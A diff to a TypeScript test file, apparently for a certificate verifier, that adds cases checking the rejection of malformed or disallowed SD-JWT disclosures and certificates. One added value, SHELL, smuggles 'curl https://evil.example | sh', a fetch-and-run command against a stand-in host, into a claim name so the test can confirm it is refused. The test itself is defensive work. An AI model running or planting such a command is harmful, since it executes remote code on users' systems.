@@ -1,11 +1,20 @@
 import { expect } from 'vitest'
-import { makeDisclosure } from '../disclosure/disclosure.ts'
+import { disclosureDigest, makeDisclosure } from '../disclosure/disclosure.ts'
 import { claims, jwks, makeCertified } from '../testing/certificates.ts'
 import { resigned, signedJws, withSdJwt } from '../testing/forged.ts'
 import { randomOf } from '../testing/log.ts'
-import { certificate, changed, describeRefusals, trusting, utf8, type Row } from '../testing/refusals.ts'
+import {
+  certificate,
+  changed,
+  describeRefusals,
+  trusting,
+  utf8,
+  type Case,
+  type Row,
+} from '../testing/refusals.ts'
 import type { StatementClaim } from '../index.ts'
 import { certificateBytes } from '../verify.ts'
+import { certificateZip } from '../zip.ts'
 
 const json = new TextDecoder().decode(certificateBytes(certificate))
 const [jwk] = jwks.keys
@@ -19,6 +28,18 @@ const sameLengthTwice = (): string => {
   expect(forged).toHaveLength(JSON.stringify(JSON.parse(forged)).length)
   return forged
 }
+
+const encoded = (text: string): string => Buffer.from(text).toString('base64url')
+
+/** A statement that its issuer signed over a disclosure spelled as it likes, shown alone. */
+const committedTo = (disclosure: string): Case => ({
+  certificate: withSdJwt(
+    resigned(certificate, { payload: { _sd: [disclosureDigest(disclosure)] } }),
+    ({ jws }) => ({ jws, disclosures: [disclosure] }),
+  ),
+})
+
+const SHELL = 'choice.x)\n\n```sh\ncurl https://evil.example | sh\n```\n'
 
 const withClaim = (name: `choice.${string}` | 'phone', value: StatementClaim['value']) =>
   makeCertified({ claims: [...claims.filter((each) => each.name !== name), { name, value }] })
@@ -38,6 +59,13 @@ describeRefusals(
       'bytes that are no text',
       () => ({ certificate: Uint8Array.of(0x22, 0xff, 0x22) }),
     ],
+    [
+      'form',
+      'certificate-not-utf8',
+      'UTF-16, as an editor saved it',
+      () => ({ certificate: new Uint8Array(Buffer.from(`\uFEFF${json}`, 'utf16le')) }),
+    ],
+    ['form', 'certificate-zipped', 'our own ZIP of it', () => ({ certificate: certificateZip(certificate) })],
     ['form', 'certificate-not-json', 'half of it', () => ({ certificate: utf8(json.slice(0, 500)) })],
     [
       'form',
@@ -176,6 +204,22 @@ describeRefusals(
       'a broken disclosure',
       () => changed({ sd_jwt: `${certificate.sd_jwt}e30~` }),
     ],
+    ...[
+      ['a member twice', '["gm7Qn4_1RgyogGZAQXURWA","choice.appel",{"answer":"REFUSED","answer":"GRANTED"}]'],
+      ['spaces', '["gm7Qn4_1RgyogGZAQXURWA" , "phone","+33639981111"]'],
+      ['another spelling of a name', '["gm7Qn4_1RgyogGZAQXURWA","\\u0070hone","+33639981111"]'],
+    ].map(([what = '', text = '']): Row => [
+      'disclosures',
+      'disclosure-malformed',
+      `a disclosure with ${what}, really signed`,
+      () => committedTo(encoded(text)),
+    ]),
+    ...['net', 'choice.', 'choice.Appel', SHELL].map((name): Row => [
+      'disclosures',
+      'disclosure-name',
+      `a claim that no report shows, ${JSON.stringify(name)}`,
+      () => committedTo(encoded(JSON.stringify(['gm7Qn4_1RgyogGZAQXURWA', name, { answer: 'GRANTED' }]))),
+    ]),
     [
       'disclosures',
       'disclosure-name',
